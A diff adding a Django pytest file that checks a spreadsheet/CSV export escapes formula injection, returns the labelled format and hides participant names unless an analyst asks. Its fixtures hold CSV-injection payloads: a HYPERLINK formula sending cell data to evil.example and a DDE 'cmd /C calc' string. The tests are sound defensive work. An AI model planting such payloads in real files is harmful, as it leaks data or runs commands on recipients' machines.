@@ -1,0 +1,173 @@
+"""What leaves the app as a spreadsheet: no formulas, exactly what the label says, names only on request."""
+
+import csv
+import io
+
+import pytest
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from reports.export import COLUMNS, EXPORTS, HISTORY_COLUMNS, spreadsheet_cell
+from reports.forms import ExportForm
+from scoring.models import AllocationChange
+from sessions.models import Participant, Role
+
+from .conftest import allocate, points
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Klik")'
+
+
+def export(client, evaluation, **params):
+    return client.get(reverse("reports:export", args=[evaluation.slug]), params)
+
+
+def csv_rows(response) -> list[list[str]]:
+    text = response.content.decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text), delimiter=";"))
+
+
+def xlsx_cells(response) -> list:
+    """Every cell of every sheet, with openpyxl's type: 'f' is a formula."""
+    book = load_workbook(io.BytesIO(response.content))
+    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+@pytest.fixture
+def hostile(evaluation, session, key_moment, verteller):
+    """Text typed by participants and the team that a spreadsheet would run."""
+    attacker = Participant.objects.create(
+        evaluation=evaluation, name=FORMULA, organisation="+31 6 1234", role=Role.REFLECTOR
+    )
+    session.participants.add(attacker)
+    key_moment.title = "@SUM(1+1)*cmd|' /C calc'!A0"
+    key_moment.save()
+    session.room = "-2+3"
+    session.save()
+    allocate(session, attacker)
+    allocate(session, verteller)
+    for person in (attacker, verteller):
+        AllocationChange.objects.create(
+            session=session, participant=person, new_points=points(), changed_by=person.name
+        )
+    return attacker
+
+
+class TestFormulaInjection:
+    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+    def test_every_formula_trigger_is_neutralised(self, start):
+        assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"
+
+    def test_plain_text_numbers_and_dates_stay_as_they_are(self):
+        assert spreadsheet_cell("Vera Verteller") == "Vera Verteller"
+        assert spreadsheet_cell(-3) == -3
+        assert spreadsheet_cell(None) is None
+
+    def test_control_characters_that_break_xlsx_are_removed(self):
+        assert spreadsheet_cell("Vera\x07 V\x00") == "Vera V"
+
+    @pytest.mark.parametrize("names", ["on", ""])
+    def test_no_cell_of_any_sheet_is_a_formula_in_the_xlsx(
+        self, client, analyst, evaluation, hostile, names
+    ):
+        client.force_login(analyst)
+        cells = xlsx_cells(export(client, evaluation, format="xlsx", names=names))
+        assert cells
+        assert not [c.value for c in cells if c.data_type == "f"]
+        texts = [c.value for c in cells if isinstance(c.value, str)]
+        assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
+        assert "'@SUM(1+1)*cmd|' /C calc'!A0" in texts  # the key moment, pseudonymised too
+        if names:
+            assert "'" + FORMULA in texts
+
+    @pytest.mark.parametrize("kind", ["csv", "csv-wijzigingen"])
+    @pytest.mark.parametrize("names", ["on", ""])
+    def test_no_csv_cell_starts_a_formula(self, client, analyst, evaluation, hostile, kind, names):
+        client.force_login(analyst)
+        rows = csv_rows(export(client, evaluation, format=kind, names=names))
+        cells = [cell for row in rows for cell in row]
+        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+        if names:
+            assert "'" + FORMULA in cells
+
+    def test_an_xlsx_with_a_control_character_in_a_name_still_downloads(
+        self, client, analyst, evaluation, session, verteller
+    ):
+        verteller.name = "Vera\x07"
+        verteller.save()
+        allocate(session, verteller)
+        client.force_login(analyst)
+        response = export(client, evaluation, format="xlsx", names="on")
+        assert response.status_code == 200
+        assert "Vera" in [c.value for c in xlsx_cells(response)]
+
+
+class TestEachOptionGivesWhatItSays:
+    def test_every_form_choice_has_an_export_and_no_more(self):
+        assert {key for key, _label in ExportForm.FORMATS} == set(EXPORTS)
+
+    @pytest.mark.parametrize(
+        "kind, content_type, header",
+        [
+            ("xlsx", "application/vnd.openxmlformats", None),
+            ("csv", "text/csv", COLUMNS),
+            ("csv-wijzigingen", "text/csv", HISTORY_COLUMNS),
+        ],
+    )
+    def test_the_download_is_the_format_on_the_label(
+        self, client, analyst, evaluation, hostile, kind, content_type, header
+    ):
+        client.force_login(analyst)
+        response = export(client, evaluation, format=kind)
+        assert response.status_code == 200
+        assert response["Content-Type"].startswith(content_type)
+        extension = "xlsx" if kind == "xlsx" else "csv"
+        assert response["Content-Disposition"].endswith(f'.{extension}"')
+        if header is None:
+            assert response.content.startswith(b"PK")  # a zip container, i.e. XLSX
+            book = load_workbook(io.BytesIO(response.content))
+            assert book.sheetnames == ["Puntenverdelingen", "Wijzigingen"]
+        else:
+            rows = csv_rows(response)
+            assert rows[0] == header
+            assert len(rows) == 3
+
+    @pytest.mark.parametrize("kind", ["xlsx", "csv", "csv-wijzigingen"])
+    @pytest.mark.parametrize("extra", [{}, {"pseudonymise": ""}, {"names": ""}])
+    def test_names_only_when_asked_for_in_every_format(
+        self, client, analyst, evaluation, session, verteller, kind, extra
+    ):
+        allocate(session, verteller)
+        AllocationChange.objects.create(
+            session=session, participant=verteller, new_points=points(), changed_by="Vera"
+        )
+        client.force_login(analyst)
+        response = export(client, evaluation, format=kind, **extra)
+        content = (
+            " ".join(str(c.value) for c in xlsx_cells(response))
+            if kind == "xlsx"
+            else response.content.decode("utf-8-sig")
+        )
+        assert "Vera" not in content and "Waterschap" not in content
+        assert verteller.pseudonym in content
+
+    def test_the_analyst_gets_names_when_asking(
+        self, client, analyst, evaluation, session, verteller
+    ):
+        allocate(session, verteller)
+        client.force_login(analyst)
+        content = export(client, evaluation, format="csv", names="on").content.decode("utf-8-sig")
+        assert "Vera Verteller" in content and "Waterschap" in content
+
+    def test_the_facilitator_cannot_export_names(
+        self, client, facilitator, evaluation, session, verteller
+    ):
+        allocate(session, verteller)
+        client.force_login(facilitator)
+        response = export(client, evaluation, format="csv", names="on")
+        assert response.status_code == 400
+        assert "Alleen de analist" in response.content.decode()
+        assert "Vera" not in response.content.decode()
+
+    @pytest.mark.parametrize("columns", [COLUMNS, HISTORY_COLUMNS])
+    def test_headers_are_unique(self, columns):
+        assert len(columns) == len(set(columns))
